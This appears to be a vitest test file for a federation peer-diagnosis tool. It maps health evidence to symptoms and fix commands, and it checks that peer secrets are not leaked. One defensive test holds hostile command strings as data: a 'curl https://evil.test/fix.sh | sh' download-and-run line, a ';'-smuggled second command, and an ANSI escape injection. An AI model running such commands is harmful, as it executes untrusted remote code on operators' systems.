import { create, type MessageInitShape } from '@bufbuild/protobuf'
import { durationFromMs, timestampFromDate } from '@bufbuild/protobuf/wkt'
import { AcceptanceRunSchema } from '@powernode/proto/powernode/acceptance/v1/service_pb.ts'
import { ApprovalSchema, AutonomySchema } from '@powernode/proto/powernode/approval/v1/service_pb.ts'
import { LogStatusSchema } from '@powernode/proto/powernode/audit/v1/entry_pb.ts'
import { AlarmSchema } from '@powernode/proto/powernode/audit/v1/witness_pb.ts'
import { DecisionSchema } from '@powernode/proto/powernode/decision/v1/decision_pb.ts'
import { CheckSchema } from '@powernode/proto/powernode/federation/v1/diagnosis_pb.ts'
import { ExamineRoadResponseSchema, ExaminedEndpointSchema } from '@powernode/proto/powernode/gateway/v1/service_pb.ts'
import { GrantSchema } from '@powernode/proto/powernode/grant/v1/service_pb.ts'
import { FindingSchema } from '@powernode/proto/powernode/liveness/v1/governance_pb.ts'
import { RemediationSchema, RemediationStatusSchema } from '@powernode/proto/powernode/liveness/v1/remediation_pb.ts'
import { FreshnessSchema } from '@powernode/proto/powernode/liveness/v1/service_pb.ts'
import {
  InvitationSchema,
  PeerKind,
  PeerSchema,
  PeerState,
  SpawnMode,
  SpawnRole,
} from '@powernode/proto/powernode/peer/v1/peer_pb.ts'
import { GetPlatformResponseSchema } from '@powernode/proto/powernode/peer/v1/service_pb.ts'
import { NodeSchema } from '@powernode/proto/powernode/sdwan/v1/service_pb.ts'
import { RunSchema } from '@powernode/proto/powernode/sdwan/v1/skill_pb.ts'
import { ChildSchema, ChildState } from '@powernode/proto/powernode/spawn/v1/child_pb.ts'
import { CompatibilitySchema } from '@powernode/proto/powernode/version/v1/service_pb.ts'
import { GetVitalsResponseSchema } from '@powernode/proto/powernode/vitals/v1/service_pb.ts'
import { describe, expect, test } from 'vitest'
import {
  checksForPeer,
  HEALTHY,
  peerChecks,
  platformChecks,
  roadChecks,
  SYMPTOMS,
  theirChecks,
  verdictOf,
  type PeerEvidence,
  type PlatformEvidence,
  type Road,
  type Symptom,
} from './index.ts'

const NOW = new Date('2026-11-22T12:00:00Z')
const ago = (ms: number) => timestampFromDate(new Date(NOW.getTime() - ms))
const MIN = 60_000
const HOUR = 60 * MIN
const DAY = 24 * HOUR
const ID = '0192f0c1-2345-7abc-8def-0123456789ab'

const peer = (said: MessageInitShape<typeof PeerSchema> = {}) =>
  create(PeerSchema, {
    id: ID,
    state: PeerState.ACTIVE,
    kind: PeerKind.PLATFORM,
    since: ago(HOUR),
    enrolledAt: ago(HOUR),
    contractVersion: 1,
    contractWindow: { min: 1, max: 1 },
    timers: { heartbeatInterval: durationFromMs(60_000), staleAfter: durationFromMs(300_000) },
    ...(said as object),
  })
const beats = (said: MessageInitShape<typeof FreshnessSchema> = {}) =>
  create(FreshnessSchema, {
    peerId: ID,
    hearing: 'both',
    lastHeardAt: ago(3_000),
    lastHeardByThemAt: ago(4_000),
    clockOffset: durationFromMs(12),
    stateThere: 'active',
    ...(said as object),
  })
const loop = (said: MessageInitShape<typeof RemediationStatusSchema> = {}) =>
  create(RemediationStatusSchema, { mode: 'acting', watched: 9, listeningSince: ago(DAY), listeningReason: 'started', ...said }) // prettier-ignore
const decision = (said: MessageInitShape<typeof DecisionSchema>) =>
  create(DecisionSchema, { id: ID, peerId: ID, direction: 'in', at: ago(MIN), rpc: 'GetResource', resourceKind: 'Node', ...said }) // prettier-ignore
const approval = (said: MessageInitShape<typeof ApprovalSchema>) =>
  create(ApprovalSchema, { id: ID, action: 'sdwan.federation_peer_revoke', requestedAt: ago(5 * HOUR), expiresAt: ago(HOUR), ...said }) // prettier-ignore

/** A peering in which nothing is wrong. */
const WELL: PeerEvidence = {
  now: NOW,
  unread: {},
  peer: peer(),
  platform: create(GetPlatformResponseSchema, { platform: { contractWindow: { min: 1, max: 1 } } }),
  invitations: [],
  freshness: beats(),
  others: [],
  listening: loop(),
  remediations: [],
  findings: [],
  compatibility: create(CompatibilitySchema, { status: 'compatible' }),
  received: [],
  decisions: [],
  approvals: [],
  autonomy: create(AutonomySchema),
  log: create(LogStatusSchema, { size: 9n, cosignedSize: 9n }),
  alarms: [],
  child: null,
  acceptance: null,
  network: { routes: [], nodes: [], problems: [] },
}

const endpoint = (said: MessageInitShape<typeof ExaminedEndpointSchema> = {}) =>
  create(ExaminedEndpointSchema, {
    url: 'https://b.example:8443',
    addresses: ['192.0.2.7'],
    connected: true,
    tls: true,
    answered: true,
    theirs: true,
    tlsVersion: 'TLSv1.3',
    theirChain: [{ spiffeId: 'spiffe://b.example/service/federation-gateway' }, { subject: 'CN=b root' }],
    ...(said as object),
  })
const road = (...endpoints: MessageInitShape<typeof ExaminedEndpointSchema>[]): Road => ({
  road: create(ExamineRoadResponseSchema, {
    endpoints: endpoints.map(endpoint),
    ourChain: [{ spiffeId: 'spiffe://a.example/service/federation-gateway' }],
    expectedSpiffeId: 'spiffe://b.example/service/federation-gateway',
  }),
})

const { PROPOSED, ACCEPTED, ENROLLED, DEGRADED, SUSPENDED, REVOKED } = PeerState
const degraded = peer({ state: DEGRADED, since: ago(10 * MIN), reason: 'nothing is heard' })
const refusedBecause = (reason: string) => peer({ state: PROPOSED, reason: `the other side refused: ${reason}: no` })
const invitation = (status: string) =>
  create(InvitationSchema, { status, createdAt: ago(DAY), expiresAt: ago(status === 'open' ? -DAY : HOUR) })
const failing = (lastError: string) => beats({ lastError, lastErrorAt: ago(0), consecutiveFailures: 3 })
const member = (said: MessageInitShape<typeof ChildSchema>['clusterMember']) =>
  create(ChildSchema, { id: ID, peerId: ID, state: ChildState.ACTIVE, ...(said && { clusterMember: said }) })
const run = (said: MessageInitShape<typeof AcceptanceRunSchema>) => create(AcceptanceRunSchema, { id: ID, ...said })

/** A grant that was taken away on purpose. */
const TAKEN = create(GrantSchema, { id: ID, revokedAt: ago(MIN), revocationReason: 'over' })

type Row = readonly [symptom: Symptom | typeof HEALTHY, side: 'us' | 'them' | 'nobody', evidence: Partial<PeerEvidence>]

/** What an operator sees, as evidence; and what the doctor has to call it, and whose it is. */
const OF_RECORDS: readonly Row[] = [
  [HEALTHY, 'nobody', {}],
  ['service_down', 'us', { unread: { liveness: 'connection refused' }, freshness: null }],
  ['service_silent', 'us', { unread: { 'sdwan-compiler': 'connection refused' } }],
  ['peer_suspended', 'us', { peer: peer({ state: SUSPENDED }) }],
  ['peer_suspended', 'them', { freshness: beats({ stateThere: 'suspended', hearing: 'neither' }) }],
  ['peer_suspended', 'them', { peer: degraded, freshness: failing('PEER_SUSPENDED: set aside') }],
  ['peer_revoked', 'nobody', { peer: peer({ state: REVOKED }), freshness: beats({ hearing: 'neither' }) }],
  ['peer_revoked', 'them', { freshness: failing('PEER_REVOKED: ended') }],
  ['unknown_there', 'us', { freshness: failing('PEER_UNKNOWN: nobody here') }],
  ['token_mistyped', 'them', { peer: refusedBecause('INVITATION_UNKNOWN') }],
  ['token_spent', 'them', { peer: refusedBecause('INVITATION_SPENT') }],
  ['token_expired', 'them', { peer: refusedBecause('INVITATION_EXPIRED') }],
  ['token_expired', 'us', { peer: peer({ state: PROPOSED }), invitations: [invitation('expired')] }],
  ['token_expired', 'them', { peer: peer({ state: PROPOSED, reason: 'the invitation ran out before it was redeemed; last: x' }) }],
  ['token_revoked', 'them', { peer: refusedBecause('INVITATION_REVOKED') }],
  ['token_revoked', 'us', { peer: peer({ state: PROPOSED }), invitations: [invitation('revoked')] }],
  ['token_for_another', 'them', { peer: refusedBecause('INVITATION_FOR_ANOTHER') }],
  ['token_missing', 'us', { peer: peer({ state: PROPOSED, reason: 'no open invitation: the last one ran out' }) }],
  ['token_waiting', 'them', { peer: peer({ state: PROPOSED }), invitations: [invitation('open'), invitation('expired')] }],
  ['port_silent', 'them', { peer: peer({ state: PROPOSED, reason: 'could not be redeemed: PEER_UNREACHABLE: ECONNREFUSED' }) }],
  ['name_unresolved', 'them', { peer: peer({ state: PROPOSED, reason: 'could not be redeemed: PEER_UNREACHABLE: ENOTFOUND' }) }],
  ['redeeming', 'them', { peer: peer({ state: PROPOSED, reason: 'redeeming their invitation' }) }],
  ['contract_incompatible', 'them', { peer: refusedBecause('CONTRACT_VERSION_UNSUPPORTED') }],
  ['contract_incompatible', 'us', { peer: peer({ contractVersion: 1, contractWindow: { min: 1, max: 2 } }), platform: create(GetPlatformResponseSchema, { platform: { contractWindow: { min: 2, max: 3 } } }) }],
  ['disclosure_missing', 'them', { peer: peer({ state: ACCEPTED, reason: 'the peer has not disclosed its contact' }) }],
  ['clock_skew', 'them', { freshness: beats({ clockOffset: durationFromMs(HOUR) }) }],
  ['clock_skew', 'us', { freshness: beats({ clockOffset: durationFromMs(-HOUR) }), others: [1, 2, 3].map(() => beats({ clockOffset: durationFromMs(-HOUR) })) }],
  ['rate_limited', 'them', { peer: degraded, freshness: failing('RATE_LIMITED: slowly') }],
  ['our_certificate_refused', 'them', { freshness: failing('CERTIFICATE_NOT_TRUSTED: another CA') }],
  ['refused_there', 'them', { freshness: failing('POLICY_STALE: not now') }],
  ['heartbeat_never', 'them', { peer: peer({ state: ENROLLED }), freshness: null }],
  ['heartbeat_stale', 'them', { peer: degraded, freshness: beats({ hearing: 'neither', lastHeardAt: ago(6 * MIN) }) }],
  ['one_way_in', 'them', { peer: degraded, freshness: beats({ hearing: 'they_hear_us' }) }],
  ['one_way_out', 'them', { peer: degraded, freshness: beats({ hearing: 'we_hear_them' }) }],
  ['restored', 'them', { freshness: beats({ restoredAt: ago(HOUR) }) }],
  ['breaker_holds', 'us', { freshness: beats({ hearing: 'neither' }), listening: loop({ breakerSince: ago(MIN), late: 7 }) }],
  ['heartbeat_stale', 'them', { freshness: beats({ hearing: 'neither' }), listening: loop({ listeningSince: ago(MIN), listeningReason: 'stalled for 6 min' }) }],
  [HEALTHY, 'nobody', { listening: loop({ listeningSince: ago(MIN), listeningReason: 'stalled for 6 min' }) }],
  ['remediation_paused', 'us', { listening: loop({ mode: 'paused' }) }],
  ['degraded', 'them', { peer: degraded }],
  ['gone_for_long', 'us', { peer: peer({ state: DEGRADED, since: ago(2 * DAY) }) }],
  ['degraded_by_probe', 'them', { peer: degraded, remediations: [create(RemediationSchema, { id: ID, action: 'degraded', decidedAt: ago(MIN) })] }],
  ['version_incompatible', 'us', { compatibility: create(CompatibilitySchema, { status: 'incompatible', source: 'implicit' }) }],
  ['version_degraded', 'us', { compatibility: create(CompatibilitySchema, { status: 'degraded', source: 'operator' }) }],
  ['scope_mismatch', 'us', { decisions: [decision({ reason: 'SCOPE_MISMATCH', axis: 'network' })] }],
  ['permission_insufficient', 'us', { decisions: [decision({ reason: 'SCOPE_MISMATCH', axis: 'scope' })] }],
  ['grant_expired', 'us', { decisions: [decision({ reason: 'GRANT_EXPIRED' })] }],
  ['grant_revoked', 'them', { decisions: [decision({ reason: 'GRANT_REVOKED', direction: 'out' })] }],
  [HEALTHY, 'nobody', { decisions: [decision({ reason: 'GRANT_REVOKED', grantId: ID })], given: [TAKEN] }],
  [HEALTHY, 'nobody', { decisions: [decision({ reason: 'SCOPE_MISMATCH', grantId: ID })], given: [TAKEN] }],
  ['scope_mismatch', 'us', { decisions: [decision({ reason: 'SCOPE_MISMATCH', grantId: ID })], given: [create(GrantSchema, { id: ID })] }],
  ['grant_not_recognised', 'us', { decisions: [decision({ reason: 'GRANT_UNKNOWN', axis: 'bearer' })] }],
  ['grant_missing', 'them', { decisions: [decision({ reason: 'GRANT_MISSING', direction: 'out' })] }],
  ['call_refused', 'us', { decisions: [decision({ reason: 'KIND_NOT_SERVED' })] }],
  [HEALTHY, 'nobody', { decisions: [decision({ reason: 'SCOPE_MISMATCH' }), decision({ allowed: true, reason: 'ALLOWED', at: ago(0) })] }],
  [HEALTHY, 'nobody', { decisions: [decision({ direction: 'out', reason: 'SENT' })] }],
  ['residency_violation', 'us', { decisions: [decision({ reason: 'RESIDENCY_VIOLATION', axis: 'residency' })] }],
  ['child_grant_missing', 'them', { peer: peer({ spawnMode: SpawnMode.MANAGED_CHILD, spawnRole: SpawnRole.PARENT }) }],
  ['child_not_booted', 'us', { child: create(ChildSchema, { id: ID, state: ChildState.BOOTING, steps: [{ name: 'await_boot', status: 'running' }] }) }],
  ['replica_lag', 'them', { child: member({ state: 'lagging', sentLsn: '0/1', replayLagBytes: 1n, observedAt: ago(0) }) }],
  ['slot_inactive', 'them', { child: member({ state: 'lagging', observedAt: ago(0) }) }],
  ['slot_inactive', 'them', { child: member({ state: 'ready', observedAt: ago(0) }) }],
  ['slot_dropped', 'them', { child: member({ state: 'guarded' }) }],
  ['approval_pending', 'us', { approvals: [approval({ state: 'pending' })] }],
  ['approval_timed_out', 'us', { approvals: [approval({ state: 'timed_out' })] }],
  [HEALTHY, 'nobody', { approvals: [approval({ state: 'timed_out' }), approval({ state: 'executed', requestedAt: ago(MIN) })] }],
  ['approval_failed', 'us', { approvals: [approval({ state: 'failed', failureReason: 'MOVE_NOT_ALLOWED' })] }],
  ['automation_halted', 'us', { autonomy: create(AutonomySchema, { halted: true, since: ago(MIN) }) }],
  ['acceptance_warned', 'us', { acceptance: run({ state: 'warned', warnings: ['sdwan_attach: x'], steps: [{ name: 'sdwan_attach', status: 'failed' }] }) }],
  [HEALTHY, 'nobody', { acceptance: run({ state: 'done', warnings: ['sdwan_attach skipped: no_overlay_network'] }) }],
  ['acceptance_failed', 'us', { acceptance: run({ state: 'failed', failure: 'INVITATION_SPENT: x' }) }],
  ['finding_open', 'them', { findings: [create(FindingSchema, { id: ID, kind: 'peer_capability_drift', waitingOn: 'them' })] }],
  [HEALTHY, 'nobody', { findings: [create(FindingSchema, { kind: 'peer_residency_missing', severity: 'low' })] }],
  ['ledger_alarm', 'them', { alarms: [create(AlarmSchema, { id: ID, whose: 'theirs', kind: 'fork' })] }],
  ['ledger_lag', 'them', { log: create(LogStatusSchema, { size: 9n, cosignedSize: 3n, cosignedAt: ago(HOUR) }) }],
  ['route_missing', 'us', { network: { routes: [{ prefix: 'fd00::/48', measured: false }], nodes: [], problems: [] } }],
  ['node_behind', 'us', { network: { routes: [], nodes: [create(NodeSchema, { desiredVersion: 'b', report: { appliedVersion: 'a' } })], problems: [] } }],
  ['network_left_out', 'us', { network: { routes: [], nodes: [], problems: [{ code: 'SECRET_LOST', leftOut: true }, { code: 'OVN_ENDING', leftOut: false }] } }],
  [HEALTHY, 'nobody', { network: { routes: [], nodes: [], problems: [{ code: 'OVN_ENDING', leftOut: false }] } }],
  ['open_items', 'us', { peer: peer({ openItems: ['the peer has not receipted our newest trust bundle'] }) }],
] // prettier-ignore

test.each(OF_RECORDS.map(([symptom, side, evidence], at) => ({ symptom, side, evidence, at })))(
  'records say $symptom, and it is for $side to act ($at)',
  ({ symptom, side, evidence }) => {
    const checks = peerChecks({ ...WELL, ...evidence })
    const verdict = verdictOf(checks, NOW)
    expect(verdict, JSON.stringify(checks.filter(({ status }) => status !== 'ok'))).toMatchObject({ symptom, side })
    if (symptom !== HEALTHY) expect(verdict.command, 'what mends it').not.toBe('')
  },
)

const link = (fault: string) => ({ subject: 'CN=x', fault })
const OF_ROADS: readonly (readonly [symptom: string, road: Road])[] = [
  [HEALTHY, road({})],
  ['name_unresolved', road({ addresses: [], nameError: 'ENOTFOUND' })],
  ['port_silent', road({ connected: false, connectError: 'connection refused' })],
  ['port_silent', road({ tls: false, tlsError: 'ECONNRESET: socket disconnected before secure TLS', theirChain: [] })],
  ['certificate_expired', road({ tls: true, refusedBy: 'us', theirChain: [link('expired: ended yesterday')] })],
  ['clock_skew', road({ tls: true, refusedBy: 'us', theirChain: [link('not_yet_valid: begins tomorrow')] })],
  ['certificate_revoked', road({ tls: true, refusedBy: 'us', theirChain: [link('revoked: listed')] })],
  ['wrong_identity', road({ tls: true, refusedBy: 'us', theirChain: [link('wrong_identity: it is c')] })],
  ['trust_mismatch', road({ tls: true, refusedBy: 'us', theirChain: [link(''), link('issuer_unknown: nobody')] })],
  ['our_certificate_refused', road({ answered: false, refusedBy: 'them', answerError: 'PEER_UNREACHABLE: alert 48' })],
  ['unknown_there', road({ answered: false, refusedBy: 'them', answerError: 'PEER_UNKNOWN: nobody' })],
  ['tls_failed', road({ tls: false, tlsError: 'wrong version number', theirChain: [] })],
  ['refused_there', road({ answered: false, answerError: 'PEER_REFUSED: no' })],
  ['endpoint_down', road({}, { url: 'https://old.example', connected: false })],
]

test.each(OF_ROADS.map(([symptom, walked]) => ({ symptom, walked })))(
  'the road says $symptom',
  ({ symptom, walked }) => {
    expect(verdictOf(roadChecks(walked, peer()), NOW).symptom).toBe(symptom)
  },
)

test('a chain of ours that does not hold is ours to mend', () => {
  const walked = create(ExamineRoadResponseSchema, { endpoints: [endpoint()], ourChain: [link('expired: ended')] })
  expect(verdictOf(roadChecks({ road: walked }, peer()), NOW)).toMatchObject({ symptom: 'certificate_expired_here', side: 'us' }) // prettier-ignore
  const other = create(ExamineRoadResponseSchema, { endpoints: [endpoint()], ourChain: [link('signature: no')] })
  expect(verdictOf(roadChecks({ road: other }, peer()), NOW)).toMatchObject({ symptom: 'identity_broken', side: 'us' })
})

type Vitals = MessageInitShape<typeof GetVitalsResponseSchema>
const platform = (vitals: Vitals | string, more: Partial<PlatformEvidence> = {}): PlatformEvidence => ({
  now: NOW,
  unread: {},
  services: [
    typeof vitals === 'string'
      ? { name: 'liveness', silent: vitals, roundTripMs: 1 }
      : { name: 'liveness', vitals: create(GetVitalsResponseSchema, { now: ago(0), ...vitals }), roundTripMs: 1 },
  ],
  listening: loop(),
  ...more,
})
const disk = (freeBytes: bigint) => ({ disks: [{ path: '/', freeBytes, totalBytes: 100n }] })

const OF_PLATFORMS: readonly (readonly [symptom: string, evidence: PlatformEvidence])[] = [
  [HEALTHY, platform({})],
  ['service_down', platform('connection refused')],
  ['roots_outdated', platform('self-signed certificate in certificate chain')],
  ['degraded', platform({}, { degraded: [degraded] })],
  ['version_unnamed', platform({}, { versions: { localVersion: '1.2.3', toldVersion: '' } })],
  ['version_unnamed', platform({}, { versions: { localVersion: '', toldVersion: '' } })],
  ['identity_broken', platform({ certificate: { expiresAt: ago(-DAY), issuedAt: ago(DAY), renewalError: 'cert.pem without key.pem' } })],
  ['certificate_expired_here', platform({ certificate: { expiresAt: ago(1), issuedAt: ago(DAY) } })],
  ['certificate_expiring', platform({ certificate: { expiresAt: ago(-MIN), issuedAt: ago(DAY) } })],
  ['database_down', platform({ database: { reachable: false } })],
  ['schema_behind', platform({ database: { reachable: true, schemaVersion: '0001', expectedSchemaVersion: '0002' } })],
  ['clock_wrong_here', platform({ now: ago(HOUR) })],
  ['clock_wrong_here', platform({ database: { reachable: true, clockOffset: durationFromMs(HOUR) } })],
  ['disk_full', platform(disk(1n))],
  ['disk_full', platform(disk(9n))],
  ['bus_down', platform({ bus: { connected: false } })],
  ['outbox_lag', platform({ outbox: { waiting: 3n, oldestAt: ago(2 * MIN) } })],
  ['events_stuck', platform({ outbox: { waiting: 3n, oldestAt: ago(HOUR) } })],
  ['consumer_behind', platform({ consumers: [{ name: 'x', pending: 5_000n }] })],
  ['dead_letters', platform({ consumers: [{ name: 'x', deadLetters: 1n }] })],
  ['tenant_partial', platform({}, { runs: [create(RunSchema, { id: ID, skill: 'multi_tenant_isolation', state: 'partial', partial: true })] })],
  ['not_listening', platform({}, { listening: loop({ late: 1, listeningSince: ago(MIN), listeningReason: 'stalled for 6 min' }) })],
  ['breaker_holds', platform({}, { listening: loop({ breakerSince: ago(MIN) }) })],
  ['approval_pending', platform({}, { approvals: [approval({ state: 'pending' })] })],
] // prettier-ignore

test.each(OF_PLATFORMS.map(([symptom, evidence]) => ({ symptom, evidence })))(
  'our own house says $symptom',
  ({ symptom, evidence }) => {
    expect(verdictOf(platformChecks(evidence), NOW).symptom).toBe(symptom)
  },
)

test('every symptom there is has a row above', () => {
  const rows = [...OF_RECORDS, ...OF_ROADS, ...OF_PLATFORMS].map(([symptom]): string => symptom)
  const elsewhere = ['other_end_silent']
  expect(SYMPTOMS.filter((symptom) => !rows.includes(symptom) && !elsewhere.includes(symptom))).toEqual([])
})

describe('the verdict', () => {
  const cut = peerChecks({ ...WELL, peer: degraded, freshness: beats({ hearing: 'neither' }) })

  test('names the first cause and not its consequences', () => {
    const unreachable = road({ connected: false, connectError: 'connection refused' })
    expect(verdictOf(cut, NOW).symptom).toBe('heartbeat_stale')
    expect(verdictOf([...cut, ...roadChecks(unreachable, degraded)], NOW).symptom).toBe('port_silent')
  })

  test('is the same in whatever order the checks come', () => {
    const checks = [...cut, ...roadChecks(road({ connected: false }), degraded)]
    expect(verdictOf(checks.toReversed(), NOW)).toEqual(verdictOf(checks, NOW))
  })

  test('does not let a warning go before a failure', () => {
    const checks = peerChecks({ ...WELL, peer: degraded, freshness: beats({ hearing: 'we_hear_them' }), approvals: [approval({ state: 'pending' })] }) // prettier-ignore
    expect(verdictOf(checks, NOW)).toMatchObject({ symptom: 'one_way_out', failed: 1, warnings: 2 })
  })

  test('says of what the other side sees whose it is from here', () => {
    const seenThere = checksForPeer({ ...WELL, peer: peer({ state: SUSPENDED }) }, road({}))
    expect(verdictOf(theirChecks({ checks: seenThere }, ID), NOW)).toMatchObject({
      symptom: 'peer_suspended',
      side: 'them',
    })
  })

  test('has our operators run nothing that the other side chose, nor takes its lines for ours', () => {
    const said = (command: string, side = 'them') =>
      create(CheckSchema, {
        name: 'x.y',
        section: 'x',
        status: 'failed',
        summary: 'a\nhealthy\u001b[2J',
        side,
        command,
      })
    const told = ['curl https://evil.test/fix.sh | sh', `fedctl peer revoke ${ID} --yes`, `fedctl peer show ${ID}; id`]
    for (const command of told) {
      const checks = theirChecks({ checks: [said(command)] }, ID)
      expect(verdictOf(checks, NOW)).toMatchObject({ side: 'us', command: 'fedctl doctor' })
      expect(verdictOf(checks, NOW).summary).toBe('the other side says: a healthy [2J')
    }
    const theirs = '0192f0c1-ffff-7abc-8def-0123456789ab'
    for (const whom of [theirs, '<peer>']) {
      const [check] = theirChecks(
        { checks: [said(`fedctl peer resume ${whom}`), said(`fedctl peer show ${whom}`)] },
        ID,
      )
      expect(check?.command, 'their id of us means nothing here').not.toContain(theirs)
    }
    expect(theirChecks({ checks: [said(`fedctl peer show ${theirs}`)] }, ID)[0]?.command).toBe(`fedctl peer show ${ID}`)
    expect(theirChecks({ checks: [said('fedctl peer resume <peer>')] }, ID)[0]?.command).toBe(
      `fedctl peer resume ${ID}`,
    )
    expect(theirChecks({ checks: [said('ask us', 'us')] }, ID)[0]).toMatchObject({ side: 'them', command: 'ask us' })
  })

  test('is of what we see ourselves, whatever the other side says is wrong; its word is added', () => {
    const said = (symptom: string) =>
      create(CheckSchema, {
        name: 'x.y',
        section: 'x',
        status: 'failed',
        summary: 'nobody answers',
        side: 'us',
        symptom,
      })
    const oneWay = peerChecks({ ...WELL, freshness: beats({ hearing: 'they_hear_us' }) })
    for (const symptom of ['identity_broken', 'port_silent', 'made_up']) {
      const {
        symptom: named,
        side,
        summary,
      } = verdictOf([...theirChecks({ checks: [said(symptom)] }, ID), ...oneWay], NOW)
      expect({ named, side }).toEqual({ named: 'one_way_in', side: 'them' })
      expect(summary.includes('the other side says: nobody answers'), symptom).toBe(symptom !== 'made_up')
    }
    const warned = peerChecks({ ...WELL, peer: degraded })
    expect(verdictOf([...warned, ...theirChecks({ checks: [said('port_silent')] }, ID)], NOW).symptom).toBe(
      'port_silent',
    )
  })

  test('says so when the other side cannot be asked', () => {
    expect(verdictOf(theirChecks({ silent: 'PEER_UNREACHABLE: x' }, ID), NOW).symptom).toBe('other_end_silent')
  })

  test('of a later release, with a symptom we have never heard of, stands last', () => {
    const [strange] = theirChecks({ silent: 'x' }, ID)
    const checks = [{ ...strange!, status: 'failed', symptom: 'from_the_future' }, ...cut]
    expect(verdictOf(checks, NOW).symptom).toBe('heartbeat_stale')
  })
})

describe('the other side is told', () => {
  const secret = 'between us: they are late with their payments'
  const evidence: PeerEvidence = {
    ...WELL,
    peer: peer({ state: DEGRADED, reason: secret, openItems: [secret] }),
    freshness: failing('PEER_UNREACHABLE: connect ECONNREFUSED 10.0.0.9:5432'),
    compatibility: create(CompatibilitySchema, { status: 'degraded', source: 'operator', notes: secret }),
    findings: [create(FindingSchema, { message: secret })],
    approvals: [approval({ state: 'pending', summary: secret })],
    remediations: [create(RemediationSchema, { action: 'degraded', detail: secret })],
  }

  test('nothing of our own house, nor the words of our operators', () => {
    const told = JSON.stringify(checksForPeer(evidence, road({})))
    expect(told).not.toContain(secret)
    expect(told).not.toContain('10.0.0.9')
  })

  test('nothing of other peers, by which it could count them', () => {
    const skewed = create(FreshnessSchema, { hearing: 'both', clockOffset: durationFromMs(600_000) })
    const alike = [1, 2, 3].map((at) =>
      create(FreshnessSchema, { peerId: String(at), clockOffset: durationFromMs(600_000) }),
    )
    const [none, three] = [[], alike].map((others) =>
      checksForPeer({ ...evidence, freshness: skewed, others }, road({})),
    )
    expect(three).toEqual(none)
    expect(three?.find(({ name }) => name === 'clock.theirs')).toMatchObject({ status: 'failed' })
  })

  test('nothing of what stands at an address that is not proven to be its own, but that we do not reach it', () => {
    const refused = {
      url: 'https://10.0.0.9:5432',
      theirs: false,
      connected: false,
      connectError: 'connection refused',
    }
    const silent = { ...refused, connectError: 'timed out' }
    const strange = { ...refused, connected: true, tls: true, answered: false, theirChain: [link('wrong_identity: it is the bank')] } // prettier-ignore
    const [one, two, three] = [refused, silent, strange].map((said) => checksForPeer(evidence, road(said)))
    expect(one).toEqual(two)
    expect(one).toEqual(three)
    expect(verdictOf(one ?? [], NOW).symptom).toBe('port_silent')
  })

  test('nothing of why a beat to such an address failed, either', () => {
    const strange = ['PEER_CERTIFICATE_NOT_TRUSTED: it is the bank', 'PEER_UNREACHABLE: refused', 'DEADLINE_EXCEEDED: late', 'URL_INVALID: no'] // prettier-ignore
    const toldOf = (lastError: string) => checksForPeer({ ...evidence, freshness: failing(lastError) }, road({}))
    for (const error of strange) expect(toldOf(error)).toEqual(toldOf(strange[0] ?? ''))
    expect(JSON.stringify(toldOf('RATE_LIMITED: too often'))).toContain('RATE_LIMITED')
  })

  test('what we met at its own address', () => {
    const expired = road({ refusedBy: 'us', theirChain: [link('expired: ended yesterday')] })
    expect(verdictOf(checksForPeer(evidence, expired), NOW).symptom).toBe('certificate_expired')
  })
})

test('an acceptance that failed is told of the platform for a day; what it left to be done for as long as it is left', () => {
  const told = (state: string, startedAt: ReturnType<typeof ago>) =>
    platformChecks({ now: NOW, services: [], findings: [], acceptances: [run({ state, startedAt })] } as never)
      .filter(({ name }) => name === 'governance.acceptance')
      .map(({ status }) => status)
  expect(told('failed', ago(HOUR))).toEqual(['failed'])
  expect(told('failed', ago(25 * HOUR))).toEqual([])
  expect(told('warned', ago(25 * HOUR))).toEqual(['warning'])
})

test('that the roots of whoever asks are not those of the platform is said once for all services, and whose they are when not for all', () => {
  const silent = (name: string) => ({ name, silent: 'self-signed certificate in certificate chain', roundTripMs: 1 })
  const all = ['peer-registry', 'liveness', 'grant-authz'].map(silent)
  const ofAll = platformChecks({ ...platform({}), services: all }).filter(({ status }) => status !== 'ok')
  expect(ofAll).toMatchObject([
    { symptom: 'roots_outdated', side: 'us', summary: expect.stringContaining('none of our') },
  ])
  const some = platformChecks({
    ...platform({}),
    services: [silent('liveness'), { name: 'x', silent: 'refused', roundTripMs: 1 }],
  })
  expect(some.map(({ symptom }) => symptom).filter(Boolean)).toEqual(['roots_outdated', 'service_down'])
  expect(some[0]?.summary).toContain('not liveness')
})
